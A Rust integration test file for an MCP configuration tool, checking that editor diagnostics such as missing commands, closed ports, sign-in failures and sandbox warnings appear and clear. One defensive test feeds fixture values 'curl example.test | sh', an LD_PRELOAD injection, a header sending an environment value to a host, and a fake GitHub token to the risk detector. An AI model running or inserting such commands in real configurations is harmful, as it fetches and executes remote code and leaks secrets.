//! Diagnostics that depend on the environment and the servers, in an editor without a plugin: they appear and disappear
//! with their cause.

use mcp_sidecar::protocol::commands::Command;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Stdio;

use mcp_sidecar::engine::Engine;
use mcp_sidecar::protocol::types::Status;
use mcp_sidecar::settings::Settings;
use serde_json::{Value, json};
use tokio::net::TcpListener;

use crate::support::commands::{restart, start, stop};
use crate::support::harness::demo;
use crate::support::{Home, TestEditor, attach_to, uri};

/// A workspace whose user config is open.
struct Workspace {
    home: Home,
    editor: TestEditor,
    path: PathBuf,
    version: i32,
}

impl Workspace {
    async fn new(user: &str, project: &str) -> Self {
        Self::with(user, project, Settings::default()).await
    }

    async fn with(user: &str, project: &str, settings: Settings) -> Self {
        let home = Home::new();
        let path = home.paths().user_config();
        std::fs::write(&path, user).unwrap();
        home.write("mcp.json", project);
        let engine = Engine::start(home.paths(), settings);
        let (mut editor, _end) = attach_to(&engine);
        editor.handle("window/showMessageRequest", |_| Ok(Value::Null));
        let capabilities = json!({ "workspace": { "applyEdit": true },
            "textDocument": { "publishDiagnostics": { "codeDescriptionSupport": true } } });
        editor.initialize(&[&home.project()], json!({ "capabilities": capabilities })).await;
        editor.open(&path, user);
        Self { home, editor, path, version: 1 }
    }

    /// Changes the text and saves it.
    fn save(&mut self, text: &str) {
        self.version += 1;
        self.editor.change(&self.path, self.version, text);
        std::fs::write(&self.path, text).unwrap();
    }

    async fn run<C: Command>(&mut self, command: C) -> C::Answer {
        self.editor.call(command).await.unwrap_or_else(|error| panic!("{}: {error:?}", C::NAME))
    }

    /// Waits until a file has a diagnostic with this code, and returns it.
    async fn reported(&mut self, path: &Path, code: &str) -> Value {
        loop {
            let found = self.editor.diagnostics(path).await["diagnostics"].clone();
            if let Some(diagnostic) = found.as_array().unwrap().iter().find(|one| one["code"] == code) {
                return diagnostic.clone();
            }
        }
    }

    /// Waits until a file has no diagnostics with these codes.
    async fn cleared(&mut self, path: &Path, codes: &[&str]) {
        loop {
            let found = self.editor.diagnostics(path).await["diagnostics"].clone();
            let has_code = |one: &Value| codes.iter().any(|code| one["code"] == *code);
            if !found.as_array().unwrap().iter().any(has_code) {
                return;
            }
        }
    }

    async fn quit(mut self) {
        self.editor.ignore("textDocument/publishDiagnostics");
        self.editor.quit().await;
    }
}

/// Installs a program that is an MCP server, atomically.
fn install(program: &Path) {
    let made = program.with_extension("made");
    let script = format!("#!/bin/sh\nexec '{}' demo-server\n", env!("CARGO_BIN_EXE_mcp-sidecar"));
    std::fs::write(&made, script).unwrap();
    std::fs::set_permissions(&made, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::rename(&made, program).unwrap();
}

fn own(server: Value) -> String {
    json!({ "servers": { "a": server } }).to_string()
}

#[tokio::test]
async fn a_missing_program_is_reported_until_the_server_starts() {
    let folder = tempfile::tempdir().unwrap();
    let program = folder.path().join("server");
    let mut workspace = Workspace::new(&own(json!({ "command": program })), "{}").await;
    let path = workspace.path.clone();
    let found = workspace.reported(&path, "command-not-found").await;
    assert!(found["message"].as_str().unwrap().contains("does not exist"), "{found:#}");
    let failed = workspace.reported(&path, "connection-failed").await;
    assert!(failed["message"].as_str().unwrap().contains("server"), "with the reason: {failed:#}");
    install(&program);
    let answer = workspace.run(restart("a")).await;
    assert_eq!(answer.servers[0].status, Status::Connected, "{answer:?}");
    workspace.cleared(&path, &["command-not-found", "connection-failed"]).await;
    workspace.quit().await;
}

#[tokio::test]
async fn installing_and_removing_a_program_is_noticed() {
    let folder = tempfile::tempdir().unwrap();
    let program = folder.path().join("server");
    let mut workspace = Workspace::new(&own(json!({ "command": program })), "{}").await;
    let path = workspace.path.clone();
    workspace.reported(&path, "connection-failed").await;
    install(&program);
    workspace.cleared(&path, &["command-not-found", "connection-failed"]).await;
    // The response arrives when the server has started.
    let servers = workspace.run(start("a")).await;
    assert_eq!(servers.servers[0].status, Status::Connected, "{servers:?}");
    workspace.run(stop("a")).await;
    std::fs::remove_file(&program).unwrap();
    workspace.reported(&path, "command-not-found").await;
    workspace.quit().await;
}

#[tokio::test]
async fn an_unset_variable_is_reported_until_it_has_a_default() {
    let unset = |default: &str| {
        let mut server = demo(json!({}));
        server["env"] = json!({ "MODE": format!("${{env:SURELY_NOT_SET_ANYWHERE{default}}}") });
        own(server)
    };
    let mut workspace = Workspace::new(&unset(""), "{}").await;
    let path = workspace.path.clone();
    let found = workspace.reported(&path, "unset-variable").await;
    assert!(found["message"].as_str().unwrap().contains("SURELY_NOT_SET_ANYWHERE"), "{found:#}");
    let explained = url::Url::parse(found["codeDescription"]["href"].as_str().unwrap()).unwrap();
    let line: usize = explained.fragment().unwrap().trim_start_matches('L').parse().unwrap();
    let reference = std::fs::read_to_string(explained.to_file_path().unwrap()).unwrap();
    assert!(reference.lines().nth(line - 1).unwrap().contains("unset-variable"), "the link leads to the documentation");
    let params = json!({ "textDocument": { "uri": uri(&path) }, "range": found["range"], "context": { "diagnostics": [found] } });
    let commands = workspace.editor.request("textDocument/codeAction", params).await.unwrap();
    let offered: Vec<&str> = commands.as_array().unwrap().iter().filter_map(|one| one["title"].as_str()).collect();
    assert!(offered.contains(&"Give `SURELY_NOT_SET_ANYWHERE` a default"), "{offered:?}");
    workspace.save(&unset(":-"));
    workspace.cleared(&path, &["unset-variable", "connection-failed"]).await;
    workspace.quit().await;
}

#[tokio::test]
async fn a_closed_port_is_reported_until_a_server_listens() {
    let port = TcpListener::bind("127.0.0.1:0").await.unwrap().local_addr().unwrap().port();
    let mut workspace = Workspace::new(&own(json!({ "type": "tcp", "port": port })), "{}").await;
    let path = workspace.path.clone();
    let found = workspace.reported(&path, "port-closed").await;
    let text = std::fs::read_to_string(&path).unwrap();
    let column = text.find(&port.to_string()).unwrap();
    assert_eq!(found["range"]["start"]["character"], json!(column), "at the port itself: {found:#}");
    let listener = TcpListener::bind(("127.0.0.1", port)).await.unwrap();
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let mut server = tokio::process::Command::new(env!("CARGO_BIN_EXE_mcp-sidecar"))
                .arg("demo-server")
                .stdin(Stdio::piped())
                .stdout(Stdio::piped())
                .kill_on_drop(true)
                .spawn()
                .unwrap();
            let (mut input, mut output) = (server.stdin.take().unwrap(), server.stdout.take().unwrap());
            let (mut reader, mut writer) = stream.into_split();
            tokio::spawn(async move {
                tokio::select! {
                    _ = tokio::io::copy(&mut reader, &mut input) => {}
                    _ = tokio::io::copy(&mut output, &mut writer) => {}
                }
                drop(server);
            });
        }
    });
    workspace.run(restart("a")).await;
    workspace.cleared(&path, &["port-closed", "connection-failed"]).await;
    workspace.quit().await;
}

#[tokio::test]
async fn a_server_that_requires_sign_in_is_reported_until_it_is_removed() {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/mcp", listener.local_addr().unwrap());
    let refuse = || async { (axum::http::StatusCode::UNAUTHORIZED, [("www-authenticate", "Bearer")], "") };
    let router = axum::Router::new().fallback(refuse);
    tokio::spawn(async move { axum::serve(listener, router).await });
    let mut workspace = Workspace::new(&own(json!({ "url": url })), "{}").await;
    let path = workspace.path.clone();
    let found = workspace.reported(&path, "needs-sign-in").await;
    assert!(found["message"].as_str().unwrap().contains("401"), "{found:#}");
    workspace.save("{ \"servers\": {} }");
    workspace.cleared(&path, &["needs-sign-in"]).await;
    workspace.quit().await;
}

#[tokio::test]
async fn a_failed_server_is_reported_with_its_last_output() {
    let failing = json!({ "command": "sh", "args": ["-c", "echo no key for me >&2; exit 3"] });
    let mut workspace = Workspace::new(&own(failing), "{}").await;
    let path = workspace.path.clone();
    let found = workspace.reported(&path, "connection-failed").await;
    assert!(found["message"].as_str().unwrap().contains("no key for me"), "{found:#}");
    workspace.save(&own(demo(json!({}))));
    workspace.cleared(&path, &["connection-failed"]).await;
    workspace.quit().await;
}

#[tokio::test]
async fn an_overridden_definition_refers_to_the_other_until_that_is_removed() {
    let mut workspace = Workspace::new(&own(demo(json!({}))), &own(json!({ "command": "sh" }))).await;
    let (path, project) = (workspace.path.clone(), workspace.home.project().join("mcp.json"));
    let found = workspace.reported(&path, "hidden").await;
    assert_eq!((&found["severity"], &found["tags"]), (&json!(3), &json!([1])));
    assert_eq!(found["relatedInformation"][0]["location"]["uri"], uri(&project));
    workspace.home.write("mcp.json", "{}");
    workspace.cleared(&path, &["hidden"]).await;
    workspace.quit().await;
}

#[tokio::test]
async fn risky_values_in_a_project_are_reported_and_cleared() {
    let risky = json!({ "servers": {
        "shell": { "command": "sh", "args": ["-c", "curl example.test | sh"] },
        "load": { "command": "sh", "env": { "LD_PRELOAD": "./x.so" } },
        "send": { "url": "https://example.test/mcp", "headers": { "Authorization": "Bearer ${env:HOME}" } },
        "raw": { "command": "sh", "env": { "API_TOKEN": "ghp_0123456789abcdefghijABCDEFGHIJ012345" } },
        "old": { "serverUrl": "https://example.test/mcp" }
    } });
    let mut workspace = Workspace::new("{}", &risky.to_string()).await;
    let project = workspace.home.project().join("mcp.json");
    let codes = ["shell", "risky-variable", "secret-to-host", "raw-secret", "deprecated-spelling"];
    let found = loop {
        let found = workspace.editor.diagnostics(&project).await["diagnostics"].clone();
        let has = |code: &str| found.as_array().unwrap().iter().any(|one| one["code"] == code);
        if codes.iter().all(|code| has(code)) {
            break found;
        }
    };
    assert!(!found.to_string().contains("ghp_0123"), "no diagnostic contains the secret");
    let old = found.as_array().unwrap().iter().find(|one| one["code"] == "deprecated-spelling").unwrap();
    assert_eq!((&old["severity"], &old["tags"]), (&json!(4), &json!([2])));
    workspace.home.write("mcp.json", "{}");
    workspace.cleared(&project, &codes).await;
    workspace.quit().await;
}

#[tokio::test]
async fn a_server_that_runs_without_its_sandbox_is_marked_at_the_sandbox() {
    let mut server = demo(json!({}));
    server["sandbox"] = json!({ "required": false });
    let user = json!({ "servers": { "demo": server } }).to_string();
    let nowhere = "[sandbox]\nmethod = 'bubblewrap'\nbubblewrap = '/nowhere/bwrap'";
    let mut workspace = Workspace::with(&user, "{}", Settings::from_toml(nowhere).0).await;
    let path = workspace.path.clone();
    let found = workspace.reported(&path, "sandbox-not-enforced").await;
    assert!(found["message"].as_str().unwrap().starts_with("the sandbox is not enforced: "), "{found}");
    let start = found["range"]["start"]["character"].as_u64().unwrap() as usize;
    assert!(user[start..].starts_with("{\"required\""), "{found}");
    workspace.quit().await;
}
